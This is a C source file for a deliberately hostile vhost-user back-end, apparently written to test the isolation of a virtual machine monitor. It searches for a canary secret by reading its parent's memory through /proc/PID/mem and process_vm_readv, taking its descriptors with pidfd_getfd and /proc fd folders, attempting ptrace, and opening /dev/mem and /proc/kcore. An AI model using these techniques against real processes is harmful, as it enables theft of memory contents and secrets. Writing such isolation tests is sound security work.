/*
 * A vhost-user back-end that is after the rest of guest memory. It runs on the Arm host, serves an entropy device that never
 * answers, and once a second tries every way to a secret that it knows of: through what it was given, and through the
 * process that started it. What came of each way is a line on stdout:
 *
 *   given: closed, not found        proc-mem: refused (Permission denied)        proc-fd: FOUND ORKO-SECRET-0123…
 *
 * Usage: hostile-back-end SOCKET
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* What marks a secret; 32 hexadecimal digits follow. */
static const char marker[] = "ORKO-SECRET-";
enum { SECRET_DIGITS = 32, LOOK_MS = 1000, CHUNK = 1 << 20 };

/* vhost-user, "Message specification" and "Front-end message types". */
enum { GET_FEATURES = 1, SET_FEATURES = 2, SET_MEM_TABLE = 5, GET_VRING_BASE = 11, GET_PROTOCOL_FEATURES = 15 };
enum { VERSION_REPLY = 0x5, FDS_MAX = 32, PAYLOAD_MAX = 4096 };
#define F_PROTOCOL_FEATURES (1ull << 30)
#define F_VERSION_1 (1ull << 32)
/* With this bit a front-end that is not careful says more than it has to. */
#define F_ACCESS_PLATFORM (1ull << 33)

struct header {
	uint32_t request, flags, size;
};

struct memory_region {
	uint64_t guest_address, size, user_address, mmap_offset;
};

/* All descriptors that ever came in a message. */
static int given[1024];
static int given_count;

static void fail(const char *what)
{
	printf("cannot %s: %s\n", what, strerror(errno));
	exit(1);
}

/* Says what came of a way when that has changed. */
static void report(const char *way, const char *format, ...)
{
	static struct { char way[32], outcome[256]; } said[32];
	char outcome[256];
	va_list list;
	va_start(list, format);
	vsnprintf(outcome, sizeof outcome, format, list);
	va_end(list);
	for (int i = 0; i < 32; i++) {
		if (said[i].way[0] != '\0' && strcmp(said[i].way, way) != 0) continue;
		if (strcmp(said[i].outcome, outcome) == 0) return;
		snprintf(said[i].way, sizeof said[i].way, "%s", way);
		snprintf(said[i].outcome, sizeof said[i].outcome, "%s", outcome);
		break;
	}
	printf("%s: %s\n", way, outcome);
}

static void report_refused(const char *way)
{
	report(way, "refused (%s)", strerror(errno));
}

/* A secret in `bytes`, as a text of its own. */
static bool find(const char *bytes, size_t size, char *secret)
{
	const char *end = bytes + size, *at = bytes;
	while ((at = memmem(at, end - at, marker, strlen(marker))) != NULL) {
		const char *digits = at + strlen(marker);
		int count = 0;
		while (digits + count < end && count < SECRET_DIGITS && strchr("0123456789abcdef", digits[count])) count++;
		if (count == SECRET_DIGITS) {
			snprintf(secret, strlen(marker) + SECRET_DIGITS + 1, "%s", at);
			return true;
		}
		at++;
	}
	return false;
}

/* Looks through all of a file that can be mapped, which may be more than a memory table says. */
static bool find_in_file(int fd, char *secret)
{
	struct stat status;
	if (fstat(fd, &status) != 0 || !S_ISREG(status.st_mode) || status.st_size == 0) return false;
	char *bytes = mmap(NULL, status.st_size, PROT_READ, MAP_SHARED, fd, 0);
	if (bytes == MAP_FAILED) return false;
	bool found = find(bytes, status.st_size, secret);
	munmap(bytes, status.st_size);
	return found;
}

/* Looks through the memory of another process, `read_at` by `read_at`, as its map has it. */
static void look_at_memory(const char *way, pid_t pid, ssize_t (*read_at)(int, char *, size_t, uint64_t), int handle)
{
	char path[64], line[512], secret[64];
	static char chunk[CHUNK];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	if (maps == NULL) {
		/* Without the map: any address shows whether it may be asked at all. */
		if (read_at(handle, chunk, 1, 0x10000) < 0) report_refused(way);
		else report(way, "open, no map");
		return;
	}
	bool found = false;
	while (!found && fgets(line, sizeof line, maps) != NULL) {
		uint64_t start, end;
		char access;
		if (sscanf(line, "%lx-%lx %c", &start, &end, &access) != 3 || access != 'r') continue;
		for (uint64_t at = start; at < end && !found; at += CHUNK) {
			size_t want = end - at < CHUNK ? end - at : CHUNK;
			ssize_t count = read_at(handle, chunk, want, at);
			if (count <= 0) break;
			found = find(chunk, count, secret);
		}
	}
	fclose(maps);
	if (found) report(way, "FOUND %s", secret);
	else report(way, "open, not found");
}

static ssize_t read_mem(int fd, char *bytes, size_t size, uint64_t address)
{
	return pread(fd, bytes, size, address);
}

static ssize_t read_process(int pid, char *bytes, size_t size, uint64_t address)
{
	struct iovec ours = { bytes, size }, theirs = { (void *)address, size };
	return process_vm_readv(pid, &ours, 1, &theirs, 1, 0);
}

/* Opens each file of a folder of /proc/PID and looks through it. */
static void look_into_folder(const char *way, pid_t pid, const char *name)
{
	char path[64], secret[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	DIR *folder = opendir(path);
	if (folder == NULL) {
		report_refused(way);
		return;
	}
	int entries = 0;
	bool found = false;
	for (struct dirent *entry; !found && (entry = readdir(folder)) != NULL;) {
		if (entry->d_name[0] == '.') continue;
		entries++;
		int fd = openat(dirfd(folder), entry->d_name, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (fd == -1) continue;
		found = find_in_file(fd, secret);
		close(fd);
	}
	closedir(folder);
	if (found) report(way, "FOUND %s", secret);
	else report(way, "open, not found");
}

/* In a child: detaching wants a stopped thread, and the end of whoever is attached detaches too. */
static void look_by_ptrace(pid_t pid)
{
	int status;
	pid_t child = fork();
	if (child == 0) _exit(ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0 ? 0 : errno);
	waitpid(child, &status, 0);
	errno = WEXITSTATUS(status);
	if (errno == 0) report("ptrace", "possible");
	else report_refused("ptrace");
}

/* Takes descriptors out of the other process. */
static void look_by_pidfd(pid_t pid)
{
	char secret[64];
	int process = syscall(SYS_pidfd_open, pid, 0);
	if (process == -1) {
		report_refused("pidfd");
		return;
	}
	bool found = false;
	int taken = 0, error = 0;
	for (int number = 0; number < 256 && !found; number++) {
		int fd = syscall(SYS_pidfd_getfd, process, number, 0);
		if (fd == -1) {
			if (errno != EBADF) error = errno;
			continue;
		}
		taken++;
		found = find_in_file(fd, secret);
		close(fd);
	}
	close(process);
	errno = error;
	if (found) report("pidfd", "FOUND %s", secret);
	else if (taken > 0) report("pidfd", "open, not found");
	else report_refused("pidfd");
}

static void look_at_given(void)
{
	char secret[64];
	for (int i = 0; i < given_count; i++) {
		struct stat before, after;
		fstat(given[i], &before);
		if (S_ISREG(before.st_mode) && ftruncate(given[i], before.st_size + CHUNK) == 0) {
			fstat(given[i], &after);
			report("grow", "a file that was given grew to %ld bytes", (long)after.st_size);
		}
		if (find_in_file(given[i], secret)) {
			report("given", "FOUND %s", secret);
			return;
		}
	}
	report("given", "%d descriptors, not found", given_count);
}

/* What we have that nobody gave us in a message, beside the three of every program. */
static void look_at_inherited(void)
{
	DIR *folder = opendir("/proc/self/fd");
	int inherited = 0;
	char last[256] = "";
	for (struct dirent *entry; (entry = readdir(folder)) != NULL;) {
		int fd = atoi(entry->d_name);
		bool is_known = entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(folder);
		if (is_known) continue;
		inherited++;
		ssize_t length = readlinkat(dirfd(folder), entry->d_name, last, sizeof last - 1);
		last[length < 0 ? 0 : length] = '\0';
	}
	closedir(folder);
	report("inherited", "%d descriptors %s", inherited, last);
}

static void look_at_host(const char *way, const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd == -1) report_refused(way);
	else {
		report(way, "open");
		close(fd);
	}
}

static void look(void)
{
	static int looks;
	pid_t victim = getppid();
	char path[64];
	look_at_given();
	snprintf(path, sizeof path, "/proc/%d/mem", victim);
	int memory = open(path, O_RDONLY | O_CLOEXEC);
	if (memory == -1) report_refused("proc-mem");
	else {
		look_at_memory("proc-mem", victim, read_mem, memory);
		close(memory);
	}
	look_at_memory("process_vm_readv", victim, read_process, victim);
	look_into_folder("proc-fd", victim, "fd");
	look_into_folder("proc-map_files", victim, "map_files");
	look_by_ptrace(victim);
	look_by_pidfd(victim);
	look_at_host("dev-mem", "/dev/mem");
	look_at_host("kcore", "/proc/kcore");
	printf("look %d done\n", ++looks);
	fflush(stdout);
}

static void reply(int socket, uint32_t request, const void *payload, uint32_t size)
{
	char message[sizeof(struct header) + 64];
	struct header header = { request, VERSION_REPLY, size };
	memcpy(message, &header, sizeof header);
	memcpy(message + sizeof header, payload, size);
	if (write(socket, message, sizeof header + size) != (ssize_t)(sizeof header + size)) fail("reply");
}

static void show_memory(const char *payload)
{
	uint32_t count;
	memcpy(&count, payload, sizeof count);
	for (uint32_t i = 0; i < count && i < FDS_MAX; i++) {
		struct memory_region region;
		memcpy(&region, payload + 8 + i * sizeof region, sizeof region);
		printf("region: 0x%lx, %lu bytes\n", region.guest_address, region.size);
	}
}

/* Answers one message; false at the end of the connection. */
static bool serve(int socket)
{
	struct header header;
	union {
		char bytes[CMSG_SPACE(FDS_MAX * sizeof(int))];
		struct cmsghdr align;
	} control;
	static char payload[PAYLOAD_MAX];
	struct iovec iovec = { &header, sizeof header };
	struct msghdr message = { .msg_iov = &iovec, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	ssize_t count = recvmsg(socket, &message, MSG_WAITALL | MSG_CMSG_CLOEXEC);
	if (count != sizeof header || header.size > PAYLOAD_MAX) return false;
	for (struct cmsghdr *part = CMSG_FIRSTHDR(&message); part != NULL; part = CMSG_NXTHDR(&message, part)) {
		int fds = (part->cmsg_len - CMSG_LEN(0)) / sizeof(int);
		for (int i = 0; i < fds && given_count < 1024; i++) {
			memcpy(&given[given_count++], CMSG_DATA(part) + i * sizeof(int), sizeof(int));
		}
	}
	if (header.size > 0 && recv(socket, payload, header.size, MSG_WAITALL) != (ssize_t)header.size) return false;

	uint64_t word = 0;
	switch (header.request) {
	case GET_FEATURES:
		word = F_VERSION_1 | F_PROTOCOL_FEATURES | F_ACCESS_PLATFORM;
		/* fall through */
	case GET_PROTOCOL_FEATURES:
		reply(socket, header.request, &word, sizeof word);
		break;
	case SET_FEATURES:
		memcpy(&word, payload, sizeof word);
		printf("features: 0x%lx\n", word);
		break;
	case SET_MEM_TABLE:
		show_memory(payload);
		break;
	case GET_VRING_BASE:
		reply(socket, header.request, payload, 8);
		break;
	}
	fflush(stdout);
	return true;
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	if (argc != 2 || strlen(argv[1]) >= sizeof address.sun_path) {
		fprintf(stderr, "Usage: hostile-back-end SOCKET\n");
		return 64;
	}
	printf("uid: %d, no new privileges: %d\n", getuid(), prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	look_at_inherited();
	strcpy(address.sun_path, argv[1]);
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 1) != 0) fail("listen");
	fflush(stdout);
	int connection = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	if (connection == -1) fail("accept");
	for (;;) {
		struct pollfd poller = { connection, POLLIN, 0 };
		int ready = poll(&poller, 1, LOOK_MS);
		if (ready > 0 && !serve(connection)) return 0;
		if (ready == 0) look();
	}
}
